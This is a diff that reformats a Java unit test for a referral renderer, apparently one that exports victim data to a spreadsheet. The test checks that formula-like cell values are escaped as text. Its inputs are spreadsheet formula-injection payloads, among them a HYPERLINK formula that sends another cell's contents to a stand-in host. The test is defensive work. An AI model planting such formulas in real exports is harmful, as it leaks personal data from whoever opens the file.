@@ -219,8 +219,14 @@ class PpuReferralRendererTest {
     @Test
     void writesEveryCellASpreadsheetWouldRunAsAFormulaAsText() throws Exception {
         List<String> formulas = List.of(
-                "=HYPERLINK(\"http://x.example/?d=\"&H2,\"Klik\")", "+1+2", "-1+2", "@SUM(A1)", "\t=1+2", "\r=1+2",
-                " =1+2", "\uFF1D1+2");
+                "=HYPERLINK(\"http://x.example/?d=\"&H2,\"Klik\")",
+                "+1+2",
+                "-1+2",
+                "@SUM(A1)",
+                "\t=1+2",
+                "\r=1+2",
+                " =1+2",
+                "\uFF1D1+2");
         for (String formula : formulas) {
             Bundle bundle = firstReferral();
             Patient victim = Bundles.all(bundle, Patient.class).get(0);
@@ -229,10 +235,13 @@ class PpuReferralRendererTest {
             byte[] content = adapter.renderReferral(new OutboundReferral("h1", Fixtures.PPU, bundle), Fixtures.PPU)
                     .content();
 
-            assertThat(Fixtures.rows(content).get(0).get("Nama Korban")).as(formula)
+            assertThat(Fixtures.rows(content).get(0).get("Nama Korban"))
+                    .as(formula)
                     .startsWith("'")
                     .endsWith(formula.strip());
-            assertThat(victim.getNameFirstRep().getText()).as("the canonical model keeps the value").isEqualTo(formula);
+            assertThat(victim.getNameFirstRep().getText())
+                    .as("the canonical model keeps the value")
+                    .isEqualTo(formula);
         }
     }
 
